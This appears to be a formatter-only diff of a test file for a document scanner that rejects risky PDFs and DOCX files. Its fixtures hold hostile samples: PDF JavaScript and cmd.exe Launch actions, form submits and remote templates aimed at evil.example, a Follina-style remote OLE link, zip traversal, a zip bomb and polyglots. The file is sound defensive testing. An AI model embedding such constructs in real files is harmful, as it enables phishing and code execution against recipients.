@@ -4,7 +4,16 @@ import { Document, ExternalHyperlink, Packer, Paragraph, TextRun } from 'docx';
 import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
 import { describe, expect, it } from 'vitest';
 import yazl from 'yazl';
-import { builtinChecksSummary, containsZip, DEFAULT_CATEGORY_CHECKS, inspectZip, isRemoteTarget, isUnsafeEntryName, readZipEntries, readZipEntry } from '../../src/scan/active-content/index.ts';
+import {
+  builtinChecksSummary,
+  containsZip,
+  DEFAULT_CATEGORY_CHECKS,
+  inspectZip,
+  isRemoteTarget,
+  isUnsafeEntryName,
+  readZipEntries,
+  readZipEntry,
+} from '../../src/scan/active-content/index.ts';
 import { BuiltinScanner } from '../../src/scan/builtin.ts';
 
 // ---------------------------------------------------------------- the corpus, generated here
@@ -44,7 +53,10 @@ function patch(bytes: Buffer, from: string, to: string): Buffer {
 /** Sets the general-purpose "encrypted" bit (0x1) on every local and central header. */
 function markEncrypted(zip: Buffer): Buffer {
   const out = Buffer.from(zip);
-  for (const [signature, flagOffset] of [['PK\x03\x04', 6], ['PK\x01\x02', 8]] as const) {
+  for (const [signature, flagOffset] of [
+    ['PK\x03\x04', 6],
+    ['PK\x01\x02', 8],
+  ] as const) {
     for (let at = out.indexOf(signature, 0, 'latin1'); at !== -1; at = out.indexOf(signature, at + 1, 'latin1')) {
       out.writeUInt16LE(out.readUInt16LE(at + flagOffset) | 0x1, at + flagOffset);
     }
@@ -58,9 +70,15 @@ function zeroBomb(megabytes: number, alongside: Part[] = []): Promise<Buffer> {
   for (const entry of alongside) zip.addBuffer(Buffer.from(entry.bytes), entry.name);
   const size = megabytes * 1024 * 1024;
   const block = Buffer.alloc(1024 * 1024);
-  zip.addReadStream(Readable.from((function* () {
-    for (let i = 0; i < megabytes; i += 1) yield block;
-  })()), 'zeros.bin', { size, compress: true });
+  zip.addReadStream(
+    Readable.from(
+      (function* () {
+        for (let i = 0; i < megabytes; i += 1) yield block;
+      })(),
+    ),
+    'zeros.bin',
+    { size, compress: true },
+  );
   zip.end();
   return collect(zip.outputStream);
 }
@@ -76,12 +94,25 @@ const documentXml = (text: string) =>
 type Part = { name: string; bytes: Buffer | string };
 
 /** A DOCX shaped like Word's own output: docProps, customXml, settings with Word's usual local Normal.dotm template, a hyperlink, a chart workbook. */
-async function wordDocx(options: { settingsRels?: string; documentRels?: string; extra?: Part[]; contentTypesExtra?: string; main?: string } = {}): Promise<Buffer> {
-  const chartWorkbook = await zipOf([{ name: '[Content_Types].xml', bytes: '<Types/>' }, { name: 'xl/workbook.xml', bytes: '<workbook/>' }]);
+async function wordDocx(
+  options: { settingsRels?: string; documentRels?: string; extra?: Part[]; contentTypesExtra?: string; main?: string } = {},
+): Promise<Buffer> {
+  const chartWorkbook = await zipOf([
+    { name: '[Content_Types].xml', bytes: '<Types/>' },
+    { name: 'xl/workbook.xml', bytes: '<workbook/>' },
+  ]);
   return zipOf([
     { name: '[Content_Types].xml', bytes: contentTypes(options.contentTypesExtra, options.main) },
-    { name: '_rels/.rels', bytes: rels(`<Relationship Id="rId3" Type="${REL}/extended-properties" Target="docProps/app.xml"/><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/>`) },
-    { name: 'docProps/app.xml', bytes: '<Properties><Template>Normal.dotm</Template><Application>Microsoft Office Word</Application><AppVersion>16.0000</AppVersion></Properties>' },
+    {
+      name: '_rels/.rels',
+      bytes: rels(
+        `<Relationship Id="rId3" Type="${REL}/extended-properties" Target="docProps/app.xml"/><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/>`,
+      ),
+    },
+    {
+      name: 'docProps/app.xml',
+      bytes: '<Properties><Template>Normal.dotm</Template><Application>Microsoft Office Word</Application><AppVersion>16.0000</AppVersion></Properties>',
+    },
     { name: 'docProps/core.xml', bytes: '<cp:coreProperties xmlns:cp="x"><dc:creator xmlns:dc="y">Ada</dc:creator></cp:coreProperties>' },
     { name: 'customXml/item1.xml', bytes: '<b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography"/>' },
     { name: 'customXml/itemProps1.xml', bytes: '<ds:datastoreItem xmlns:ds="x"/>' },
@@ -94,7 +125,10 @@ async function wordDocx(options: { settingsRels?: string; documentRels?: string;
     { name: 'word/webSettings.xml', bytes: '<w:webSettings xmlns:w="x"/>' },
     { name: 'word/media/image1.png', bytes: PNG_1X1 },
     { name: 'word/charts/chart1.xml', bytes: '<c:chartSpace xmlns:c="x"/>' },
-    { name: 'word/charts/_rels/chart1.xml.rels', bytes: rels(`<Relationship Id="rId1" Type="${REL}/package" Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/>`) },
+    {
+      name: 'word/charts/_rels/chart1.xml.rels',
+      bytes: rels(`<Relationship Id="rId1" Type="${REL}/package" Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/>`),
+    },
     { name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', bytes: chartWorkbook },
     {
       name: 'word/_rels/document.xml.rels',
@@ -105,7 +139,10 @@ async function wordDocx(options: { settingsRels?: string; documentRels?: string;
     },
     {
       name: 'word/_rels/settings.xml.rels',
-      bytes: rels(options.settingsRels ?? `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="file:///C:\\Users\\ada\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm" TargetMode="External"/>`),
+      bytes: rels(
+        options.settingsRels ??
+          `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="file:///C:\\Users\\ada\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm" TargetMode="External"/>`,
+      ),
     },
     ...(options.extra ?? []),
   ]);
@@ -115,8 +152,17 @@ async function wordDocx(options: { settingsRels?: string; documentRels?: string;
 function libreOfficeDocx(): Promise<Buffer> {
   return zipOf([
     { name: '_rels/.rels', bytes: rels(`<Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/>`) },
-    { name: 'docProps/app.xml', bytes: '<Properties><Template></Template><Application>LibreOffice/7.5.9.2$Linux_X86_64 LibreOffice_project/cdeefe45c17511d326101eed8008ac4092f278a9</Application></Properties>' },
-    { name: 'word/_rels/document.xml.rels', bytes: rels(`<Relationship Id="rId1" Type="${REL}/styles" Target="styles.xml"/><Relationship Id="rId2" Type="${REL}/hyperlink" Target="https://github.com/ada" TargetMode="External"/>`) },
+    {
+      name: 'docProps/app.xml',
+      bytes:
+        '<Properties><Template></Template><Application>LibreOffice/7.5.9.2$Linux_X86_64 LibreOffice_project/cdeefe45c17511d326101eed8008ac4092f278a9</Application></Properties>',
+    },
+    {
+      name: 'word/_rels/document.xml.rels',
+      bytes: rels(
+        `<Relationship Id="rId1" Type="${REL}/styles" Target="styles.xml"/><Relationship Id="rId2" Type="${REL}/hyperlink" Target="https://github.com/ada" TargetMode="External"/>`,
+      ),
+    },
     { name: 'word/document.xml', bytes: documentXml('Ada Lovelace') },
     { name: 'word/styles.xml', bytes: '<w:styles xmlns:w="x"/>' },
     { name: 'word/fontTable.xml', bytes: '<w:fonts xmlns:w="x"/>' },
@@ -133,7 +179,12 @@ function googleDocsDocx(): Promise<Buffer> {
     { name: 'word/fontTable.xml', bytes: '<w:fonts xmlns:w="x"/>' },
     { name: 'word/styles.xml', bytes: '<w:styles xmlns:w="x"/>' },
     { name: 'word/document.xml', bytes: documentXml('Ada Lovelace') },
-    { name: 'word/_rels/document.xml.rels', bytes: rels(`<Relationship Id="rId7" Type="${REL}/hyperlink" Target="https://docs.google.com/document/d/abc" TargetMode="External"/><Relationship Id="rId3" Type="${REL}/fontTable" Target="fontTable.xml"/>`) },
+    {
+      name: 'word/_rels/document.xml.rels',
+      bytes: rels(
+        `<Relationship Id="rId7" Type="${REL}/hyperlink" Target="https://docs.google.com/document/d/abc" TargetMode="External"/><Relationship Id="rId3" Type="${REL}/fontTable" Target="fontTable.xml"/>`,
+      ),
+    },
     { name: '_rels/.rels', bytes: rels(`<Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/>`) },
     { name: '[Content_Types].xml', bytes: contentTypes() },
   ]);
@@ -198,13 +249,21 @@ async function libPdf(options: { producer?: string; title?: string; link?: strin
   const pdf = await PDFDocument.create();
   const page = pdf.addPage([595, 842]);
   const font = await pdf.embedFont(StandardFonts.Helvetica);
-  ['Ada Lovelace', 'Skills: Node.js/JavaScript, TypeScript', 'Launch of the analytical engine, 1842'].forEach((line, index) => page.drawText(line, { x: 50, y: 780 - index * 18, size: 12, font }));
+  ['Ada Lovelace', 'Skills: Node.js/JavaScript, TypeScript', 'Launch of the analytical engine, 1842'].forEach((line, index) =>
+    page.drawText(line, { x: 50, y: 780 - index * 18, size: 12, font }),
+  );
   if (options.producer) pdf.setProducer(options.producer);
   if (options.title) pdf.setTitle(options.title);
   const context = pdf.context;
   if (options.link) {
     const annotation = context.register(
-      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [50, 700, 300, 720], Border: [0, 0, 0], A: { Type: 'Action', S: 'URI', URI: PDFString.of(options.link) } }),
+      context.obj({
+        Type: 'Annot',
+        Subtype: 'Link',
+        Rect: [50, 700, 300, 720],
+        Border: [0, 0, 0],
+        A: { Type: 'Action', S: 'URI', URI: PDFString.of(options.link) },
+      }),
     );
     page.node.set(PDFName.of('Annots'), context.obj([annotation]));
   }
@@ -268,58 +327,201 @@ async function reasonOf(bytes: Buffer | Uint8Array, contentType: string, categor
 describe('the built-in scanner: files that must be refused', () => {
   it.each<[string, () => Buffer | Uint8Array | Promise<Buffer | Uint8Array>, string, string, string?]>([
     // PDF
-    ['a PDF with /JavaScript in an OpenAction (hand-written)', () => rawPdf({ catalogExtra: '/OpenAction 4 0 R', objects: ['<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>'] }), MIME.pdf, 'pdf_javascript'],
-    ['a PDF hiding /JavaScript and /JS behind #xx escapes', () => rawPdf({ catalogExtra: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>' }), MIME.pdf, 'pdf_javascript'],
-    ['a PDF with JavaScript inside a compressed object stream', () => rawPdf({ catalogExtra: '/OpenAction 5 0 R', objects: [objectStream([[5, '<< /S /JavaScript /JS (app.alert(1)) >>']])] }), MIME.pdf, 'pdf_javascript'],
-    ['a PDF with JavaScript in an ASCII85+Flate object stream', () => rawPdf({ objects: [objectStream([[5, '<< /S /JavaScript /JS 6 0 R >>']], '[/ASCII85Decode /FlateDecode]', (data) => Buffer.from(`${ascii85(deflateSync(data))}~>`))] }), MIME.pdf, 'pdf_javascript'],
-    ['a PDF whose /JS follows a comment that opens a parenthesis', () => rawPdf({ catalogExtra: '% note (\n/Names << /JavaScript 4 0 R >>\n% )', objects: ['<< /Names [] >>'] }), MIME.pdf, 'pdf_javascript'],
-    ['a PDF with JavaScript in a page additional action (pdf-lib, object streams)', async () => {
-      const pdf = await PDFDocument.create();
-      const page = pdf.addPage();
-      page.node.set(PDFName.of('AA'), pdf.context.obj({ O: { S: 'JavaScript', JS: PDFString.of('app.alert(1)') } }));
-      return pdf.save({ useObjectStreams: true });
-    }, MIME.pdf, 'pdf_javascript'],
+    [
+      'a PDF with /JavaScript in an OpenAction (hand-written)',
+      () => rawPdf({ catalogExtra: '/OpenAction 4 0 R', objects: ['<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>'] }),
+      MIME.pdf,
+      'pdf_javascript',
+    ],
+    [
+      'a PDF hiding /JavaScript and /JS behind #xx escapes',
+      () => rawPdf({ catalogExtra: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>' }),
+      MIME.pdf,
+      'pdf_javascript',
+    ],
+    [
+      'a PDF with JavaScript inside a compressed object stream',
+      () => rawPdf({ catalogExtra: '/OpenAction 5 0 R', objects: [objectStream([[5, '<< /S /JavaScript /JS (app.alert(1)) >>']])] }),
+      MIME.pdf,
+      'pdf_javascript',
+    ],
+    [
+      'a PDF with JavaScript in an ASCII85+Flate object stream',
+      () =>
+        rawPdf({
+          objects: [
+            objectStream([[5, '<< /S /JavaScript /JS 6 0 R >>']], '[/ASCII85Decode /FlateDecode]', (data) => Buffer.from(`${ascii85(deflateSync(data))}~>`)),
+          ],
+        }),
+      MIME.pdf,
+      'pdf_javascript',
+    ],
+    [
+      'a PDF whose /JS follows a comment that opens a parenthesis',
+      () => rawPdf({ catalogExtra: '% note (\n/Names << /JavaScript 4 0 R >>\n% )', objects: ['<< /Names [] >>'] }),
+      MIME.pdf,
+      'pdf_javascript',
+    ],
+    [
+      'a PDF with JavaScript in a page additional action (pdf-lib, object streams)',
+      async () => {
+        const pdf = await PDFDocument.create();
+        const page = pdf.addPage();
+        page.node.set(PDFName.of('AA'), pdf.context.obj({ O: { S: 'JavaScript', JS: PDFString.of('app.alert(1)') } }));
+        return pdf.save({ useObjectStreams: true });
+      },
+      MIME.pdf,
+      'pdf_javascript',
+    ],
     ['a PDF with a Launch action', () => rawPdf({ catalogExtra: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), MIME.pdf, 'pdf_launch_action'],
-    ['a PDF that opens a URL on its own (OpenAction URI, by reference)', () => rawPdf({ catalogExtra: '/OpenAction 4 0 R', objects: ['<< /S /URI /URI (https://evil.example/track) >>'] }), MIME.pdf, 'pdf_external_action'],
-    ['a PDF whose page-open action chains to a remote GoToR', () => rawPdf({ pageExtra: '/AA << /O 4 0 R >>', objects: ['<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>', '<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>'] }), MIME.pdf, 'pdf_external_action'],
-    ['a PDF form that submits data', () => rawPdf({ objects: ['<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >> >>'] }), MIME.pdf, 'pdf_external_action'],
-    ['a PDF with an embedded file (pdf-lib attach)', async () => {
-      const pdf = await PDFDocument.create();
-      pdf.addPage();
-      await pdf.attach(Buffer.from('MZ payload'), 'invoice.exe', { mimeType: 'application/octet-stream' });
-      return pdf.save();
-    }, MIME.pdf, 'pdf_embedded_file'],
-    ['a PDF with an XFA form', () => rawPdf({ catalogExtra: '/AcroForm << /Fields [] /XFA 4 0 R >>', objects: [streamObject('', '<xdp:xdp/>')] }), MIME.pdf, 'pdf_xfa'],
-    ['an encrypted PDF', () => rawPdf({ trailerExtra: '/Encrypt 4 0 R /ID [<00> <00>]', objects: ['<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>'] }), MIME.pdf, 'pdf_encrypted'],
-    ['a PDF whose object stream uses a filter that is not inspected', () => rawPdf({ objects: [objectStream([[5, '<< >>']], '/LZWDecode', (data) => data)] }), MIME.pdf, 'pdf_uninspectable'],
+    [
+      'a PDF that opens a URL on its own (OpenAction URI, by reference)',
+      () => rawPdf({ catalogExtra: '/OpenAction 4 0 R', objects: ['<< /S /URI /URI (https://evil.example/track) >>'] }),
+      MIME.pdf,
+      'pdf_external_action',
+    ],
+    [
+      'a PDF whose page-open action chains to a remote GoToR',
+      () =>
+        rawPdf({
+          pageExtra: '/AA << /O 4 0 R >>',
+          objects: ['<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>', '<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>'],
+        }),
+      MIME.pdf,
+      'pdf_external_action',
+    ],
+    [
+      'a PDF form that submits data',
+      () => rawPdf({ objects: ['<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >> >>'] }),
+      MIME.pdf,
+      'pdf_external_action',
+    ],
+    [
+      'a PDF with an embedded file (pdf-lib attach)',
+      async () => {
+        const pdf = await PDFDocument.create();
+        pdf.addPage();
+        await pdf.attach(Buffer.from('MZ payload'), 'invoice.exe', { mimeType: 'application/octet-stream' });
+        return pdf.save();
+      },
+      MIME.pdf,
+      'pdf_embedded_file',
+    ],
+    [
+      'a PDF with an XFA form',
+      () => rawPdf({ catalogExtra: '/AcroForm << /Fields [] /XFA 4 0 R >>', objects: [streamObject('', '<xdp:xdp/>')] }),
+      MIME.pdf,
+      'pdf_xfa',
+    ],
+    [
+      'an encrypted PDF',
+      () => rawPdf({ trailerExtra: '/Encrypt 4 0 R /ID [<00> <00>]', objects: ['<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>'] }),
+      MIME.pdf,
+      'pdf_encrypted',
+    ],
+    [
+      'a PDF whose object stream uses a filter that is not inspected',
+      () => rawPdf({ objects: [objectStream([[5, '<< >>']], '/LZWDecode', (data) => data)] }),
+      MIME.pdf,
+      'pdf_uninspectable',
+    ],
     ['a PDF without %%EOF', () => rawPdf({ eof: false }), MIME.pdf, 'malformed_pdf'],
     ['a "PDF" without a header', () => Buffer.from('hello\n%%EOF\n'), MIME.pdf, 'malformed_pdf'],
-    ['a file that is both a PDF and a ZIP (ZIP appended)', async () => Buffer.concat([rawPdf(), await zipOf([{ name: 'a.txt', bytes: 'x' }])]), MIME.pdf, 'polyglot'],
-    ['a file that is both a PDF and a ZIP (%%EOF kept last)', async () => Buffer.concat([rawPdf({ eof: false }), await zipOf([{ name: 'a.txt', bytes: 'x' }]), Buffer.from('\n%%EOF\n')]), MIME.pdf, 'polyglot'],
+    [
+      'a file that is both a PDF and a ZIP (ZIP appended)',
+      async () => Buffer.concat([rawPdf(), await zipOf([{ name: 'a.txt', bytes: 'x' }])]),
+      MIME.pdf,
+      'polyglot',
+    ],
+    [
+      'a file that is both a PDF and a ZIP (%%EOF kept last)',
+      async () => Buffer.concat([rawPdf({ eof: false }), await zipOf([{ name: 'a.txt', bytes: 'x' }]), Buffer.from('\n%%EOF\n')]),
+      MIME.pdf,
+      'polyglot',
+    ],
     // DOCX
     ['a DOCX with vbaProject.bin', () => wordDocx({ extra: [{ name: 'word/vbaProject.bin', bytes: 'VBA project' }] }), MIME.docx, 'ooxml_macros'],
     ['a DOCX with vbaData.xml', () => wordDocx({ extra: [{ name: 'word/vbaData.xml', bytes: '<wne:vbaSuppData/>' }] }), MIME.docx, 'ooxml_macros'],
-    ['a DOCX with a macro-enabled main content type', () => wordDocx({ main: 'application/vnd.ms-word.document.macroEnabled.main+xml' }), MIME.docx, 'ooxml_macros'],
-    ['a DOCX with a remote template (http)', () => wordDocx({ settingsRels: `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>` }), MIME.docx, 'ooxml_external_template'],
-    ['a DOCX with a remote template (UNC path)', () => wordDocx({ settingsRels: `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="\\\\evil.example\\share\\t.dotm" TargetMode="External"/>` }), MIME.docx, 'ooxml_external_template'],
-    ['a DOCX with a remote template (file://host)', () => wordDocx({ settingsRels: `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="file://evil.example/share/t.dotm" TargetMode="External"/>` }), MIME.docx, 'ooxml_external_template'],
-    ['a DOCX with a remote frame (entity-escaped target)', () => wordDocx({ documentRels: `<Relationship Id="rId1" Type="${REL}/frame" Target="&#104;ttps://evil.example/f" TargetMode="External"/>` }), MIME.docx, 'ooxml_external_template'],
-    ['a DOCX with a remote OLE object (Follina)', () => wordDocx({ documentRels: `<Relationship Id="rId996" Type="${REL}/oleObject" Target="mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html" TargetMode="External"/>` }), MIME.docx, 'ooxml_ole_object'],
-    ['a DOCX with an embedded OLE object', () => wordDocx({ extra: [{ name: 'word/embeddings/oleObject1.bin', bytes: '\xd0\xcf\x11\xe0' }] }), MIME.docx, 'ooxml_ole_object'],
+    [
+      'a DOCX with a macro-enabled main content type',
+      () => wordDocx({ main: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
+      MIME.docx,
+      'ooxml_macros',
+    ],
+    [
+      'a DOCX with a remote template (http)',
+      () => wordDocx({ settingsRels: `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>` }),
+      MIME.docx,
+      'ooxml_external_template',
+    ],
+    [
+      'a DOCX with a remote template (UNC path)',
+      () =>
+        wordDocx({ settingsRels: `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="\\\\evil.example\\share\\t.dotm" TargetMode="External"/>` }),
+      MIME.docx,
+      'ooxml_external_template',
+    ],
+    [
+      'a DOCX with a remote template (file://host)',
+      () =>
+        wordDocx({ settingsRels: `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="file://evil.example/share/t.dotm" TargetMode="External"/>` }),
+      MIME.docx,
+      'ooxml_external_template',
+    ],
+    [
+      'a DOCX with a remote frame (entity-escaped target)',
+      () => wordDocx({ documentRels: `<Relationship Id="rId1" Type="${REL}/frame" Target="&#104;ttps://evil.example/f" TargetMode="External"/>` }),
+      MIME.docx,
+      'ooxml_external_template',
+    ],
+    [
+      'a DOCX with a remote OLE object (Follina)',
+      () =>
+        wordDocx({
+          documentRels: `<Relationship Id="rId996" Type="${REL}/oleObject" Target="mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html" TargetMode="External"/>`,
+        }),
+      MIME.docx,
+      'ooxml_ole_object',
+    ],
+    [
+      'a DOCX with an embedded OLE object',
+      () => wordDocx({ extra: [{ name: 'word/embeddings/oleObject1.bin', bytes: '\xd0\xcf\x11\xe0' }] }),
+      MIME.docx,
+      'ooxml_ole_object',
+    ],
     ['a DOCX with an ActiveX control', () => wordDocx({ extra: [{ name: 'word/activeX/activeX1.xml', bytes: '<ax:ocx/>' }] }), MIME.docx, 'ooxml_ole_object'],
     ['a DOCX without word/document.xml', () => zipOf([{ name: '[Content_Types].xml', bytes: contentTypes() }]), MIME.docx, 'malformed_docx'],
     ['a "DOCX" that is no ZIP', () => Buffer.from('PK\x03\x04 but nothing else'), MIME.docx, 'malformed_docx'],
-    ['a DOCX with an entry climbing out (../)', async () => patch(await wordDocx({ extra: [{ name: 'aa/evil.txt', bytes: 'x' }] }), 'aa/evil.txt', '../evil.txt'), MIME.docx, 'zip_path_traversal'],
+    [
+      'a DOCX with an entry climbing out (../)',
+      async () => patch(await wordDocx({ extra: [{ name: 'aa/evil.txt', bytes: 'x' }] }), 'aa/evil.txt', '../evil.txt'),
+      MIME.docx,
+      'zip_path_traversal',
+    ],
     ['a DOCX with an encrypted entry', async () => markEncrypted(await wordDocx()), MIME.docx, 'zip_encrypted'],
-    ['a DOCX carrying a zip bomb (150 MB of zeros in one part)', () => zeroBomb(150, [
-      { name: '[Content_Types].xml', bytes: contentTypes() },
-      { name: 'word/document.xml', bytes: documentXml('x') },
-    ]), MIME.docx, 'zip_bomb'],
-    ['a DOCX whose embedded workbook embeds another archive (nested twice)', async () => {
-      const inner = await zipOf([{ name: 'x.txt', bytes: 'x' }]);
-      const workbook = await zipOf([{ name: 'xl/workbook.xml', bytes: '<workbook/>' }, { name: 'xl/embeddings/inner.zip', bytes: inner }]);
-      return wordDocx({ extra: [{ name: 'word/embeddings/Other.xlsx', bytes: workbook }] });
-    }, MIME.docx, 'zip_nested'],
+    [
+      'a DOCX carrying a zip bomb (150 MB of zeros in one part)',
+      () =>
+        zeroBomb(150, [
+          { name: '[Content_Types].xml', bytes: contentTypes() },
+          { name: 'word/document.xml', bytes: documentXml('x') },
+        ]),
+      MIME.docx,
+      'zip_bomb',
+    ],
+    [
+      'a DOCX whose embedded workbook embeds another archive (nested twice)',
+      async () => {
+        const inner = await zipOf([{ name: 'x.txt', bytes: 'x' }]);
+        const workbook = await zipOf([
+          { name: 'xl/workbook.xml', bytes: '<workbook/>' },
+          { name: 'xl/embeddings/inner.zip', bytes: inner },
+        ]);
+        return wordDocx({ extra: [{ name: 'word/embeddings/Other.xlsx', bytes: workbook }] });
+      },
+      MIME.docx,
+      'zip_nested',
+    ],
     // executables
     ['a Windows executable sent as a PDF', () => executable('mz'), MIME.pdf, 'executable'],
     ['an ELF binary sent as text', () => executable('elf'), MIME.txt, 'executable'],
@@ -342,19 +544,52 @@ describe('the built-in scanner: files that must be refused', () => {
 
 describe('the built-in scanner: ordinary files stay clean', () => {
   it.each<[string, () => Buffer | Uint8Array | Promise<Buffer | Uint8Array>, string, string?]>([
-    ['EICAR as a TXT resume (a signature engine\'s job, not the built-in checks\')', () => Buffer.from(`Ada Lovelace\n${EICAR}\n`), MIME.txt],
+    ["EICAR as a TXT resume (a signature engine's job, not the built-in checks')", () => Buffer.from(`Ada Lovelace\n${EICAR}\n`), MIME.txt],
     ['a text resume that mentions #! later', () => Buffer.from('Ada Lovelace\nLikes #!/bin/sh one-liners\n'), MIME.txt],
     ['a CSV import', () => Buffer.from('name,email\nAda,ada@example.test\n'), MIME.csv, 'csv_import'],
     ['a PDF from pdf-lib (object streams)', () => libPdf(), MIME.pdf],
-    ['a PDF shaped like LibreOffice\'s export (producer, OpenAction to a page, a link)', () => libPdf({ producer: 'LibreOffice 7.5', openToPage: true, link: 'https://github.com/ada' }), MIME.pdf],
-    ['a PDF shaped like a Google Docs download (Skia/PDF, a title naming JavaScript, links)', () => libPdf({ producer: 'Skia/PDF m120 Google Docs Renderer', title: 'Frontend/JavaScript Developer — Launch/EmbeddedFile (resume)', link: 'https://www.linkedin.com/in/ada' }), MIME.pdf],
-    ['a PDF shaped like Word\'s export (tagged, structure tree with Link elements)', () => libPdf({ producer: 'Microsoft® Word for Microsoft 365', structure: true, link: 'mailto:ada@example.test' }), MIME.pdf],
-    ['a hand-written PDF whose uncompressed page content says /JavaScript', () => rawPdf({ pageExtra: '/Contents 4 0 R', objects: [streamObject('', 'BT /F1 12 Tf 50 780 Td (Skills: Node.js/JavaScript /JS /Launch) Tj ET')] }), MIME.pdf],
-    ['a hand-written PDF whose link opens only when clicked', () => rawPdf({ pageExtra: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.test) >> >>'] }), MIME.pdf],
-    ['a DOCX shaped like Word\'s (local Normal.dotm template, hyperlinks, an embedded chart workbook)', () => wordDocx(), MIME.docx],
-    ['a DOCX with a template on a file:///Users path (Word for Mac)', () => wordDocx({ settingsRels: `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="file:///Users/ada/Library/Group%20Containers/UBF8T346G9.Office/User%20Content.localized/Templates.localized/Normal.dotm" TargetMode="External"/>` }), MIME.docx],
-    ['a DOCX shaped like LibreOffice\'s', () => libreOfficeDocx(), MIME.docx],
-    ['a DOCX shaped like Google Docs\'', () => googleDocsDocx(), MIME.docx],
+    [
+      "a PDF shaped like LibreOffice's export (producer, OpenAction to a page, a link)",
+      () => libPdf({ producer: 'LibreOffice 7.5', openToPage: true, link: 'https://github.com/ada' }),
+      MIME.pdf,
+    ],
+    [
+      'a PDF shaped like a Google Docs download (Skia/PDF, a title naming JavaScript, links)',
+      () =>
+        libPdf({
+          producer: 'Skia/PDF m120 Google Docs Renderer',
+          title: 'Frontend/JavaScript Developer — Launch/EmbeddedFile (resume)',
+          link: 'https://www.linkedin.com/in/ada',
+        }),
+      MIME.pdf,
+    ],
+    [
+      "a PDF shaped like Word's export (tagged, structure tree with Link elements)",
+      () => libPdf({ producer: 'Microsoft® Word for Microsoft 365', structure: true, link: 'mailto:ada@example.test' }),
+      MIME.pdf,
+    ],
+    [
+      'a hand-written PDF whose uncompressed page content says /JavaScript',
+      () => rawPdf({ pageExtra: '/Contents 4 0 R', objects: [streamObject('', 'BT /F1 12 Tf 50 780 Td (Skills: Node.js/JavaScript /JS /Launch) Tj ET')] }),
+      MIME.pdf,
+    ],
+    [
+      'a hand-written PDF whose link opens only when clicked',
+      () =>
+        rawPdf({ pageExtra: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.test) >> >>'] }),
+      MIME.pdf,
+    ],
+    ["a DOCX shaped like Word's (local Normal.dotm template, hyperlinks, an embedded chart workbook)", () => wordDocx(), MIME.docx],
+    [
+      'a DOCX with a template on a file:///Users path (Word for Mac)',
+      () =>
+        wordDocx({
+          settingsRels: `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="file:///Users/ada/Library/Group%20Containers/UBF8T346G9.Office/User%20Content.localized/Templates.localized/Normal.dotm" TargetMode="External"/>`,
+        }),
+      MIME.docx,
+    ],
+    ["a DOCX shaped like LibreOffice's", () => libreOfficeDocx(), MIME.docx],
+    ["a DOCX shaped like Google Docs'", () => googleDocsDocx(), MIME.docx],
     ['a DOCX from the docx package, with an external hyperlink', () => docxPackageDocx(), MIME.docx],
     ['a 1×1 PNG logo', () => PNG_1X1, MIME.png, 'logo'],
     ['a 4000×3000 JPEG logo header', () => jpegDeclaring(4000, 3000), MIME.jpeg, 'logo'],
@@ -369,9 +604,13 @@ describe('crafted PDFs cost linear time', () => {
     ['unbalanced additional actions', '/AA << '.repeat(500_000), 'pdf_external_action'],
     ['unclosed strings', '('.repeat(2_000_000), 'clean'],
     ['empty object streams by the thousand', '1 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\nendstream endobj\n'.repeat(20_000), 'pdf_uninspectable'],
-  ])('%s', async (_name, body, reason) => {
-    expect(await reasonOf(Buffer.from(`%PDF-1.7\n${body}\n%%EOF\n`, 'latin1'), MIME.pdf)).toBe(reason);
-  }, 20_000);
+  ])(
+    '%s',
+    async (_name, body, reason) => {
+      expect(await reasonOf(Buffer.from(`%PDF-1.7\n${body}\n%%EOF\n`, 'latin1'), MIME.pdf)).toBe(reason);
+    },
+    20_000,
+  );
 });
 
 describe('ZIP inspection (shared with the bulk intake)', () => {
@@ -438,7 +677,11 @@ describe('ZIP inspection (shared with the bulk intake)', () => {
   });
 
   it('says that random PK bytes inside image data are no ZIP', () => {
